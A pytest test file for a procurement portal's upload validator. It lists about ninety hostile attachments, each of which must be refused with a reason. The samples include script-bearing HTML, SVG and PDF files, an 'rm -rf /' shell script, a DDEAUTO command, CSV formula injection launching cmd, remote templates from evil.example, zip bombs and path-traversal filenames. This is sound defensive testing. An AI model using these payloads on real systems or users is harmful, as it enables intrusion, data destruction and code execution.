"""Files that people attach: fifty and more hostile ones, each refused with a reason."""

import io
import zipfile

import pytest

from procurement_portal.lib.uploads import MAX_BYTES, FileRefused, checked_file
from tests.procurement_portal import documents as made
from tests.procurement_portal.documents import ODS, ODT, SHEET, WORD, archive, pdf, picture

HTML = b"<!doctype html><script>alert(1)</script>"
SVG = b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>'
EXE = b"MZ\x90\x00\x03\x00\x00\x00" + b"\0" * 200
OLE = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 600
RELS = "word/_rels/document.xml.rels"
DRAWN_IN = "draws something in from outside"
ELSE = "is something else"
MACROS = "holds macros"

GOOD = {
    "agreement.pdf": pdf(),
    "packed.pdf": made.packed(b"1 0 << /Type /Page >>"),
    "agreement.docx": archive(WORD | {RELS: made.relation("hyperlink", "https://example.org")}),
    "numbers.xlsx": archive(SHEET),
    "agreement.odt": archive(ODT),
    "numbers.ods": archive(ODS),
    "poster.png": picture("PNG"),
    "poster.jpg": picture("JPEG"),
    "slowly.jpeg": picture("JPEG", progressive=True),
    "words.txt": "Café: you can stop at any time.\n".encode(),
    "older.txt": "Café – you can stop".encode("cp1252"),
    "rows.csv": b"Week,Falls\n1,-3\n2,+4\n",
}
HOSTILE = {
    "nothing at all": ("a.pdf", b"", "is empty"),
    "only blanks": ("a.txt", b" \n\n ", "is empty"),
    "too large": ("a.txt", b"x" * (MAX_BYTES + 1), "10 MB or less"),
    "no ending": ("agreement", pdf(), "needs a name before its ending"),
    "an ending not taken": ("a.zip", archive({"a": "b"}), "must be PDF, DOCX"),
    "a web page": ("a.html", HTML, "must be PDF, DOCX"),
    "a drawing": ("a.svg", SVG, "must be PDF, DOCX"),
    "a program": ("a.exe", EXE, "must be PDF, DOCX"),
    "an older Word file": ("a.doc", OLE, "must be PDF, DOCX"),
    "a Word file with macros, by its name": ("a.docm", archive(WORD), "must be PDF, DOCX"),
    "a web page named PNG": ("a.png", HTML, ELSE),
    "a drawing named PNG": ("a.png", SVG, ELSE),
    "a web page named JPEG": ("a.jpg", HTML, ELSE),
    "a web page named PDF": ("a.pdf", HTML, ELSE),
    "a program named PDF": ("a.pdf", EXE, ELSE),
    "a program named text": ("a.txt", EXE, "no plain text"),
    "a PDF named text": ("a.txt", pdf(), ELSE),
    "a web page named text": ("a.txt", HTML, "code of a web page"),
    "a drawing named text": ("a.txt", SVG, "code of a web page"),
    "a web page further down a text": ("a.txt", b"Hello\n" + HTML, "code of a web page"),
    "a script for the shell named text": ("a.txt", b"#!/bin/sh\nrm -rf /\n", ELSE),
    "an older Word file named DOCX": ("a.docx", OLE, ELSE),
    "a JPEG named PNG": ("a.png", picture("JPEG"), ELSE),
    "a workbook named DOCX": ("a.docx", archive(SHEET), ELSE),
    "a Word file named XLSX": ("a.xlsx", archive(WORD), ELSE),
    "a text document named ODS": ("a.ods", archive(ODT), ELSE),
    "a plain archive named DOCX": ("a.docx", archive({"a.xml": "b"}), ELSE),
    "a web page before a PDF": ("a.pdf", HTML + pdf(), ELSE),
    "a web page after a PDF": ("a.pdf", pdf() + HTML, "after the end of the PDF"),
    "an archive after a PDF": ("a.pdf", pdf() + archive({"a": "b"}), "after the end of the PDF"),
    "a PDF that is cut off": ("a.pdf", pdf()[:30], "cut off"),
    "an archive inside a PDF": ("a.pdf", made.pdf_with_archive(), "archive in one"),
    "a script in a PDF": ("a.pdf", pdf(b"/OpenAction << /S /JavaScript /JS (x) >>"), "a script"),
    "a script in a PDF, spelt": ("a.pdf", pdf(b"/S /J#61vaScript"), "a script"),
    "a script in a PDF, packed": ("a.pdf", made.packed(b"/S /JavaScript"), "a script"),
    "a PDF that starts programs": ("a.pdf", pdf(b"/S /Launch /F (cmd.exe)"), "starts other"),
    "a file in a PDF": ("a.pdf", pdf(b"/Names << /EmbeddedFiles 2 0 R >>"), "another file"),
    "a locked PDF": ("a.pdf", pdf(b"/Encrypt 5 0 R"), "locked"),
    "a PDF that unpacks to much": ("a.pdf", made.packed(b" " * (40 * 1024 * 1024)), "unpacks to"),
    "a PDF badly packed": ("a.pdf", made.packed(b"x").replace(b"m\nx", b"m\ny"), "damaged"),
    "an archive after a PNG": ("a.png", picture("PNG") + archive({"a": "b"}), "behind the picture"),
    "a script after a PNG": ("a.png", picture("PNG") + HTML, "behind the picture"),
    "a web page after a JPEG": ("a.jpg", picture("JPEG") + HTML, "behind the picture"),
    "a web page after a JPEG, ended again": ("a.jpg", picture("JPEG") + HTML + b"\xff\xd9",
                                             "behind the picture"),
    "a PNG that is cut off": ("a.png", picture("PNG")[:-20], "damaged"),
    "a PNG that was changed": ("a.png", picture("PNG").replace(b"IDATx", b"IDATy"), "damaged"),
    "a JPEG that is cut off": ("a.jpg", picture("JPEG")[:-20], "damaged"),
    "nothing but the head of a JPEG": ("a.jpg", b"\xff\xd8\xff\xe0" + b"\0" * 40, "damaged"),
    "a picture of many pixels": ("a.png", made.huge_png(), "too many pixels"),
    "macros in a Word file": ("a.docx", archive(WORD | {"word/vbaProject.bin": b"x"}), MACROS),
    "macros by their type": ("a.docx", archive(WORD | {"[Content_Types].xml": "macroEnabled"}),
                             MACROS),
    "macros in a workbook": ("a.xlsx", archive(SHEET | {"xl/vbaProject.bin": b"x"}), MACROS),
    "Excel 4 macros": ("a.xlsx", archive(SHEET | {"xl/macrosheets/sheet1.xml": "<x/>"}), MACROS),
    "ActiveX": ("a.docx", archive(WORD | {"word/activeX/activeX1.xml": "<x/>"}), MACROS),
    "macros in ODT": ("a.odt", archive(ODT | {"Basic/Standard/Module1.xml": "<x/>"}), MACROS),
    "a script in ODS": ("a.ods", archive(ODS | {"Scripts/python/a.py": "x"}), MACROS),
    "an event in ODT": ("a.odt", archive(ODT | {"content.xml": "<script:event-listener/>"}),
                        MACROS),
    "a template from outside": ("a.docx", archive(WORD | {
        RELS: made.relation("attachedTemplate", "https://evil.example/x.dotm")}), DRAWN_IN),
    "another workbook": ("a.xlsx", archive(SHEET | {
        "xl/externalLinks/_rels/externalLink1.xml.rels":
        made.relation("externalLinkPath", "//evil.example/x.xlsx")}), DRAWN_IN),
    "dynamic data exchange": ("a.docx", archive(WORD | {
        "word/document.xml": "<w:instrText>DDEAUTO cmd</w:instrText>"}), DRAWN_IN),
    "a program in a Word file": ("a.docx", archive(WORD | {"word/embeddings/oleObject1.bin": b"x"}),
                                 "another file"),
    "a web page in ODT": ("a.odt", archive(ODT | {"Pictures/a.html": HTML}), "another file"),
    "entities": ("a.docx", archive(WORD | {
        "word/document.xml": '<!DOCTYPE x [<!ENTITY a "b">]><x>&a;</x>'}), "declares entities"),
    "entities in wide letters": ("a.docx", archive(WORD | {
        "word/document.xml": "<!DOCTYPE x>".encode("utf-16")}), "declares entities"),
    "a bomb": ("a.docx", archive(WORD | {"word/media/a.png": b"\0" * 50_000_000}), "unpacks to"),
    "a bomb of many parts": ("a.docx", archive(WORD | {f"a/{n}": "" for n in range(2_100)}),
                             "unpacks to"),
    "one part named often": ("a.docx", made.overlapping(), "unpacks to"),
    "a size that lies": ("a.docx", made.lying_size(), "damaged"),
    "a locked document": ("a.docx", made.locked(), "locked"),
    "something before the archive": ("a.docx", HTML + archive(WORD), ELSE),
    "something after the archive": ("a.docx", archive(WORD) + HTML, "after the end"),
    "a part that climbs out": ("a.docx", archive(WORD | {"../../etc/passwd": "x"}), "leads out"),
    "a part from the root": ("a.docx", archive(WORD | {"/etc/passwd": "x"}), "leads out"),
    "two parts of one name": ("a.docx", archive(WORD | {"WORD/document.xml": "x"}), "one name"),
    "a broken archive": ("a.docx", archive(WORD)[:60] + archive(WORD)[90:], "damaged"),
    "a formula in CSV": ("a.csv", b"a,b\n1,=cmd|' /C calc'!A0\n", "formula in line 2"),
    "a formula behind a plus": ("a.csv", b"a,+cmd|x\n", "formula in line 1"),
    "a command in CSV": ("a.csv", b"@SUM(1+1),2\n", "formula in line 1"),
    "a NUL in CSV": ("a.csv", b"a\0,b\n", ELSE),
    "a cell without end": ("a.csv", b'"' + b"x" * 200_000, "cannot be read as CSV"),
    "bytes of no encoding": ("a.txt", b"caf\x81\xe9 \x9d", "no plain text"),
    "a name with folders": ("../../etc/passwd.pdf", pdf(), "a folder in it"),
    "a name with Windows folders": ("..\\..\\evil.pdf", pdf(), "a folder in it"),
    "a name with a NUL": ("a.pdf\0.exe", pdf(), "a folder in it"),
    "a name that reads backwards": ("fdp\u202efdp.pdf", pdf(), "cannot be seen"),
    "a name with a line break": ("a\r\nSet-Cookie: x.pdf", pdf(), "cannot be seen"),
    "a program inside a name": ("agreement.exe.pdf", pdf(), "ending of a program"),
    "a device's name": ("con.pdf", pdf(), "needs a name"),
    "nothing but an ending": (".pdf", pdf(), "needs a name"),
}  # fmt: skip


@pytest.mark.parametrize("name", GOOD)
def test_each_kind_is_taken(name):
    assert checked_file(GOOD[name], name).content == GOOD[name]


@pytest.mark.parametrize("kind", HOSTILE)
def test_each_hostile_file_is_refused_with_a_reason(kind):
    name, data, reason = HOSTILE[kind]
    with pytest.raises(FileRefused) as refused:
        checked_file(data, name)
    assert reason in str(refused.value)


def test_there_are_fifty_and_more():
    assert len(HOSTILE) > 50


@pytest.mark.parametrize(
    ("name", "clean"),
    [
        ("Plain agreement (v2).PDF", "Plain agreement (v2).pdf"),
        ("caf\u00e9 & co.pdf", "caf\u00e9 & co.pdf"),
        ('a"b;c<d>.pdf', "a-b-c-d.pdf"),
        ("  .hidden.pdf", "hidden.pdf"),
        ("x" * 300 + ".pdf", "x" * 90 + ".pdf"),
    ],
)
def test_names_are_made_plain(name, clean):
    assert checked_file(pdf(), name).name == clean


def test_documents_that_others_write_are_taken():
    """A workbook as openpyxl writes it, stored or packed."""
    stream = io.BytesIO()
    with zipfile.ZipFile(stream, "w", zipfile.ZIP_STORED) as file:
        for name, text in SHEET.items():
            file.writestr(name, text)
    assert checked_file(stream.getvalue(), "a.xlsx").name == "a.xlsx"
